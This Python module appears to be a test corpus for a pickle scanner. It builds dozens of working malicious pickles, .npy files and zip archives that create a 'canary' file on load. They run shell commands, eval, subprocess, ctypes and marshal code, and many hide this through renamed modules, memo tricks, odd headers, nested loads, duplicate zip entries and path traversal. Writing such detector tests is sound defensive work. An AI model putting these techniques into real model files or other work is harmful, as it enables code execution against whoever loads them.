"""Pickles that do something to whoever unpickles them: each makes the file `CANARY` in the working folder.

`prove` unpickles one of them in earnest; only ever call it in a process and a folder of its own.
"""

from __future__ import annotations

import copyreg
import io
import marshal
import os
import pickle
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Dict, Tuple

import numpy as np
from pickle_assembly import (
    EMPTY_ARRAY,
    GOOD_ARRAY,
    Call,
    called,
    items,
    name,
    of,
    pickled,
    raw,
    short,
    stack_name,
    text,
    under_w,
)

CANARY = "canary"
SHELL = f"touch {CANARY}"
CODE = f"open({CANARY!r}, 'w')"
MODULE = "evil_module"  # beside the canary; importing it makes one
EXTENSION = 0x7A  # a code that the victim has registered for os.system

SYSTEM = called("os", "system", text(SHELL))
OS = called("builtins", "__import__", text("os"))
JSON = called("builtins", "__import__", text("json"))
COMMANDS = items(text(SHELL))
LAZY = called("builtins", "map", name("os", "system"), COMMANDS)  # runs when somebody looks at its items
WORDS = items(text("touch"), text(CANARY))
EVIL = pickle.dumps(Call(os.system, SHELL), 2)
PROGRAM = marshal.dumps(compile(CODE, "program", "exec"))
LIBRARY = called("ctypes", "CDLL", b"N")  # the C library, which is a part of this process
NAMESPACE = called("types", "SimpleNamespace")
LEGACY = [0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, {}, []]


def builtin(attribute: str, *arguments: bytes) -> bytes:
    return called("builtins", attribute, *arguments)


def partial(module: str, function: str, argument: str) -> bytes:
    return called("functools", "partial", name(module, function), text(argument))


def attribute(value: bytes, *names: str) -> bytes:
    """getattr, as often as there are names."""
    for each in names:
        value = builtin("getattr", value, text(each))
    return value


def file_of(content: bytes) -> bytes:
    return called("io", "BytesIO", raw(content))


def object_array() -> bytes:
    file = io.BytesIO()
    np.save(file, np.array([Call(os.system, SHELL)], object), allow_pickle=True)
    return file.getvalue()


def zipped(*entries: Tuple[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for entry, content in entries:
            archive.writestr(entry, content)
    return buffer.getvalue()


def legacy(evil: int) -> bytes:
    """torch's older stream of five pickles, one of them hostile."""
    return b"".join(EVIL if index == evil else pickle.dumps(part, 2) for index, part in enumerate(LEGACY))


PLACES = {
    **{f"reduce-{protocol}": pickle.dumps({"w": Call(os.system, SHELL)}, protocol) for protocol in range(6)},
    "at-top-level": pickle.dumps(Call(os.system, SHELL), 4),
    "in-list": pickle.dumps({"a": [({"b": Call(os.system, SHELL)},)]}, 4),
    "in-key": pickle.dumps({("a", Call(os.system, SHELL)): 1}, 4),
    "in-set": pickle.dumps({"a": {1, Call(os.system, SHELL)}}, 4),
    "after-good-arrays": pickle.dumps({"w": np.ones(3), "x": Call(os.system, SHELL)}, 4),
    "popped": pickled(b"}", SYSTEM, b"0"),
    "popped-to-mark": pickled(b"}(", SYSTEM, b"1"),
    "in-state-of-array": under_w(EMPTY_ARRAY, b"(K\x01K\x02\x85", SYSTEM, b"\x89Ntb"),
    "in-name-of-parameter": under_w(builtin("tuple", SYSTEM + GOOD_ARRAY + b"\x86")),
    "in-persistent-id": under_w(b"(", text("storage"), SYSTEM, b"tQ"),
    "before-damage": pickled(SYSTEM, b"0\xff"),
    "before-endless-line": pickled(SYSTEM, b"0c") + b"a" * 1000,
}

BUILTINS = {
    "eval": pickle.dumps({"w": Call(eval, CODE)}, 2),
    "eval-as-if-paddle": under_w(builtin("eval", text(CODE), b"}" + text("data") + b"K\x01s")),
    "exec": pickle.dumps({"w": Call(exec, CODE)}, 4),
    "open": pickle.dumps({"w": Call(open, CANARY, "w")}, 4),
    "import": pickled(builtin("__import__", text(MODULE))),
    "getattr": pickled(of(attribute(OS, "system"), text(SHELL))),
    "getattr-chain": pickled(of(attribute(OS, "path", "os", "mkdir"), text(CANARY))),
    "map-in-list": pickled(builtin("list", LAZY)),
    "map-in-tuple": pickled(builtin("tuple", LAZY)),
    "map-in-ordered-dict": pickled(called("collections", "OrderedDict", LAZY)),
    "any-of-filter": pickled(builtin("any", builtin("filter", name("os", "system"), COMMANDS))),
    "setattr": pickled(
        builtin("setattr", JSON, text("loads"), name("os", "system")), b"0", called("json", "loads", text(SHELL))
    ),
}

LIBRARIES = {
    "os.popen": pickled(called("os", "popen", text(SHELL))),
    "os.mkdir": pickled(called("os", "mkdir", text(CANARY))),
    "os.symlink": pickled(called("os", "symlink", text("/etc/passwd"), text(CANARY))),
    "os.rename": pickled(called("os", "rename", text(f"{MODULE}.py"), text(CANARY))),
    "os.spawnlp": pickled(called("os", "spawnlp", b"K\0", text("touch"), text("touch"), text(CANARY))),
    "posix.open": pickled(called("posix", "open", text(CANARY), b"K\x42")),  # O_RDWR | O_CREAT
    "subprocess.Popen": pickle.dumps(Call(subprocess.Popen, ["touch", CANARY]), 3),
    "subprocess.call": pickled(called("subprocess", "call", WORDS)),
    "subprocess.getoutput": pickled(called("subprocess", "getoutput", text(SHELL))),
    "shutil.copyfile": pickled(called("shutil", "copyfile", text(f"{MODULE}.py"), text(CANARY))),
    "io.FileIO": pickled(called("io", "FileIO", text(CANARY), text("w"))),
    "codecs.open": pickled(called("codecs", "open", text(CANARY), text("w"))),
    "zipfile.ZipFile": pickled(called("zipfile", "ZipFile", text(CANARY), text("w"))),
    "tarfile.open": pickled(called("tarfile", "open", text(CANARY), text("w"))),
    "logging.FileHandler": pickled(called("logging", "FileHandler", text(CANARY))),
    "pathlib": pickled(of(stack_name("pathlib", "Path.touch"), called("pathlib", "Path", text(CANARY))), protocol=4),
    "runpy": pickled(called("runpy", "run_path", text(f"{MODULE}.py"))),
    "importlib": pickled(called("importlib", "import_module", text(MODULE))),
    "pydoc": pickled(called("pydoc", "locate", text(MODULE))),
    "timeit": pickled(called("timeit", "timeit", text(CODE), text("pass"), name("time", "perf_counter"), b"K\x01")),
    "cProfile": pickled(called("cProfile", "run", text(CODE))),
    "code": pickled(of(attribute(called("code", "InteractiveInterpreter"), "runsource"), text(CODE))),
    "bdb": pickled(of(attribute(called("bdb", "Bdb"), "run"), text("0"), b"}")).replace(text("0"), text(CODE)),
    "operator.attrgetter": pickled(of(of(called("operator", "attrgetter", text("system")), OS), text(SHELL))),
    "operator.methodcaller": pickled(of(called("operator", "methodcaller", text("system"), text(SHELL)), OS)),
    "functools.partial": pickled(of(partial("os", "system", SHELL))),
    "functools.reduce": pickled(called("functools", "reduce", name("builtins", "exec"), items(text(CODE), b"}"))),
    "itertools.starmap": pickled(
        builtin("any", called("itertools", "starmap", name("os", "system"), items(text(SHELL) + b"\x85")))
    ),
    "marshal": pickled(
        of(called("types", "FunctionType", called("marshal", "loads", raw(PROGRAM)), builtin("globals")))
    ),
    "ctypes": pickled(of(attribute(LIBRARY, "system"), raw(SHELL.encode()))),
    "ctypes-mkdir": pickled(of(attribute(LIBRARY, "mkdir"), raw(CANARY.encode()), b"M\xff\x01")),
}

NUMPY = {
    "numpy.savetxt": pickled(called("numpy", "savetxt", text(CANARY), items(b"K\x01"))),
    "numpy.memmap": pickled(called("numpy", "memmap", text(CANARY), text("u1"), text("w+"), b"K\0K\x01")),
    "numpy.tofile": pickled(of(stack_name("numpy", "ndarray.tofile"), GOOD_ARRAY, text(CANARY)), protocol=4),
    "numpy.load": pickled(called("numpy", "load", file_of(object_array()), b"N\x88")),
    "numpy.frompyfunc": pickled(of(called("numpy", "frompyfunc", name("os", "system"), b"K\x01K\x01"), text(SHELL))),
    "numpy.vectorize": pickled(of(called("numpy", "vectorize", name("os", "system")), text(SHELL))),
    "numpy.f2py": pickled(called("numpy.f2py.crackfortran", "myeval", text(CODE), b"}")),
    "numpy.runstring": pickled(called("numpy.testing._private.utils", "runstring", text(CODE), b"}")),
    "numpy-dotted": pickled(of(stack_name("numpy", "testing._private.utils.runstring"), text(CODE), b"}"), protocol=4),
    "numpy.genfromtxt": pickled(
        called(
            "numpy",
            "genfromtxt",
            items(text(SHELL)),
            name("builtins", "str"),
            text("#"),
            text(";"),
            b"K\0K\0",
            b"}K\0" + name("os", "system") + b"s",
        )
    ),
}

PICKLE = {
    "pickle.loads": pickled(called("pickle", "loads", raw(EVIL))),
    "pickle.loads-twice": pickled(called("pickle", "loads", raw(pickled(called("pickle", "loads", raw(EVIL)))))),
    "pickle.loads-of-text": pickled(
        called("pickle", "loads", called("_codecs", "encode", text(EVIL.decode("latin-1")), text("latin1")))
    ),
    "pickle.load": pickled(called("pickle", "load", file_of(EVIL))),
    "pickle.Unpickler": pickled(of(attribute(called("_pickle", "Unpickler", file_of(EVIL)), "load"))),
    "pickle._Unpickler": pickled(of(attribute(called("pickle", "_Unpickler", file_of(EVIL)), "load"))),
}

OPCODES = {
    "import-only": pickled(name(MODULE, "x")),
    "import-only-4": pickled(stack_name(MODULE, "x"), protocol=4),
    "inst": b"(S'touch canary'\nios\nsystem\n.",
    "inst-class": b"(S'canary'\nS'w'\niio\nFileIO\n.",
    "obj": pickled(b"(", name("io", "FileIO"), text(CANARY), text("w"), b"o"),
    "newobj": pickled(name("numpy", "memmap"), b"(", text(CANARY), text("u1"), text("w+"), b"K\0K\x01t\x81"),
    "newobj-ex": pickled(
        name("numpy", "memmap"),
        text(CANARY) + b"\x85}(" + text("mode") + text("w+") + text("shape") + b"K\x01u\x92",
        protocol=4,
    ),
    "setstate": pickled(
        called("functools", "partial", name("builtins", "len")),
        b"(" + name("os", "system") + b")}Ntb(" + text(SHELL) + b"tR",
    ),
    "state-of-module": pickled(
        JSON, b"}" + text("loads") + name("os", "system") + b"sb0", called("json", "loads", text(SHELL))
    ),
    "slots-of-module": pickled(
        JSON, b"N}" + text("loads") + name("os", "system") + b"s\x86b0", called("json", "loads", text(SHELL))
    ),
    "set-item-of-foreign": pickled(
        builtin("setattr", name("collections", "UserDict"), text("__setitem__"), partial("builtins", "exec", CODE)),
        b"0" + called("collections", "UserDict") + b"}}s",
    ),
    "append-to-foreign": pickled(NAMESPACE, b"}" + text("append") + name("os", "system") + b"sb", text(SHELL), b"a"),
    "extend-foreign": pickled(
        NAMESPACE, b"}" + text("extend") + name("subprocess", "call") + b"sb(", text("touch"), text(CANARY), b"e"
    ),
    "add-to-foreign": pickled(NAMESPACE, b"}" + text("add") + name("os", "system") + b"sb(", text(SHELL), b"\x90"),
    "ext1": pickled(b"\x82", bytes([EXTENSION]), text(SHELL) + b"\x85R"),
    "ext2": pickled(b"\x83", bytes([EXTENSION, 0]), text(SHELL) + b"\x85R"),
    "ext4": pickled(b"\x84", bytes([EXTENSION, 0, 0, 0]), text(SHELL) + b"\x85R"),
}

DISGUISES = {
    "no-header": SYSTEM + b".",
    "junk-before": b"N0I1\n0" + SYSTEM + b".",
    "two-headers": b"\x80\x02\x80\x05" + SYSTEM + b".",
    "header-0-opcodes-4": b"\x80\x00" + of(stack_name("os", "system"), short(SHELL)) + b".",
    "header-5-opcodes-0": b"\x80\x05cos\nsystem\n(V" + SHELL.encode() + b"\ntR.",
    "escaped-name": b"V\\u006f\\u0073\nVs\\u0079stem\n\x93(" + text(SHELL) + b"tR.",
    "name-of-bytes": b"U\x02osU\x06system\x93(" + text(SHELL) + b"tR.",
    "quoted-name": b"S'o\\x73'\nS'sys\\x74em'\n\x93(" + text(SHELL) + b"tR.",
    "name-in-memo": pickled(
        b"}", text("os"), b"q\x07", text("system"), b"q\x0800h\x07h\x08\x93", text(SHELL), b"\x85R"
    ),
    "rot13-name": b"\x80\x04"
    + of(name("_codecs", "encode"), text("bf"), text("rot13"))
    + of(name("_codecs", "encode"), text("flfgrz"), text("rot13"))
    + b"\x93("
    + text(SHELL)
    + b"tR.",
    "odd-number-before": b"I0x1\n0" + SYSTEM + b".",
    "odd-text-before": b"\x80\x02X\x03\0\0\0\xed\xa0\x800" + SYSTEM + b".",
    "name-doubled": pickled(text("system"), b"2q\x0100", text("os"), b"h\x01\x93", text(SHELL), b"\x85R"),
    "memo-overwritten": pickled(
        name("collections", "OrderedDict"), b"q\x050", name("os", "system"), b"q\x050h\x05", text(SHELL), b"\x85R"
    ),
    "memo-huge": pickled(name("os", "system"), b"r\xff\xff\x0f\x000j\xff\xff\x0f\x00", text(SHELL), b"\x85R"),
    "memo-of-lines": b"cos\nsystem\np123456\n0g123456\n(" + text(SHELL) + b"tR.",
    "function-doubled": pickled(name("os", "system"), b"20", text(SHELL), b"\x85R"),
    "framed": b"\x80\x04\x95\x05\0\0\0\0\0\0\0" + of(stack_name("os", "system"), short(SHELL)) + b".",
    "python-2-module": b"\x80\x02c__builtin__\neval\n" + text(CODE) + b"\x85R.",
    "python-2-move": b"\x80\x02ccommands\ngetoutput\n" + text(SHELL) + b"\x85R.",
    "dotted": pickled(of(stack_name("os", "path.os.system"), short(SHELL)), protocol=4),
    "after-another-pickle": pickle.dumps(LEGACY[0], 2) + pickle.dumps(1001, 2) + EVIL,
}

STREAMS = {f"torch-stream-{part}": legacy(part) for part in range(1, 5)}

ARCHIVES = {
    "zip": zipped(("archive/data.pkl", EVIL)),
    "zip-deflated": zipped(("archive/data.pkl", EVIL), method=zipfile.ZIP_DEFLATED),
    "zip-bzip2": zipped(("archive/data.pkl", EVIL), method=zipfile.ZIP_BZIP2),
    "zip-lzma": zipped(("archive/data.pkl", EVIL), method=zipfile.ZIP_LZMA),
    "zip-in-zip": zipped(("archive/data.pkl", pickled(b"N")), ("more.zip", zipped(("archive/data.pkl", EVIL)))),
    "zip-two-folders": zipped(("a/data.pkl", pickled(b"}")), ("b/data.pkl", EVIL)),
    # Python takes the second of two entries with one name, other readers the first.
    "zip-same-name": zipped(("a/data.pkl", pickled(b"}")), ("a/data.pkX", EVIL)).replace(b"pkX", b"pkl"),
    "zip-upwards": zipped(("../../data.pkl", EVIL)),
    "npz": zipped(("array.npy", object_array())),
    "npy": object_array(),
    "npy-of-another-spelling": object_array().replace(b"'|O'", b"'\\x4f'").replace(b"v\0", b"x\0", 1),
}

# Each makes the canary; `prove` shows it.
RUNS: Dict[str, bytes] = {
    **PLACES,
    **BUILTINS,
    **LIBRARIES,
    **NUMPY,
    **PICKLE,
    **OPCODES,
    **DISGUISES,
    **STREAMS,
    **ARCHIVES,
}


def prepare(folder: Path) -> None:
    """What the attacks expect around them."""
    (folder / f"{MODULE}.py").write_text(CODE + "\n")


def prove(content: bytes) -> bool:
    """Whether unpickling it as its reader would makes the canary, in the working folder."""
    copyreg.add_extension("os", "system", EXTENSION)  # type: ignore[arg-type]
    sys.path.insert(0, os.getcwd())
    with open(os.devnull, "w") as nothing:
        os.dup2(nothing.fileno(), 1)
        os.dup2(nothing.fileno(), 2)
    try:
        _read(content)
    except BaseException:  # most fail once they have done their work
        pass
    for process in list(getattr(subprocess, "_active", ())):
        process.wait()
    return os.path.lexists(CANARY)


def _read(content: bytes) -> None:
    if content.startswith(b"\x93NUMPY"):
        np.load(io.BytesIO(content), allow_pickle=True)
    elif content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for entry in archive.infolist():
                inner = archive.read(entry)
                if entry.filename.endswith("data.pkl") or inner.startswith((b"PK", b"\x93NUMPY")):
                    _read(inner)
    else:
        stream = io.BytesIO(content)
        while stream.tell() < len(content):  # torch.load goes on after its magic number
            pickle.load(stream, encoding="latin1")
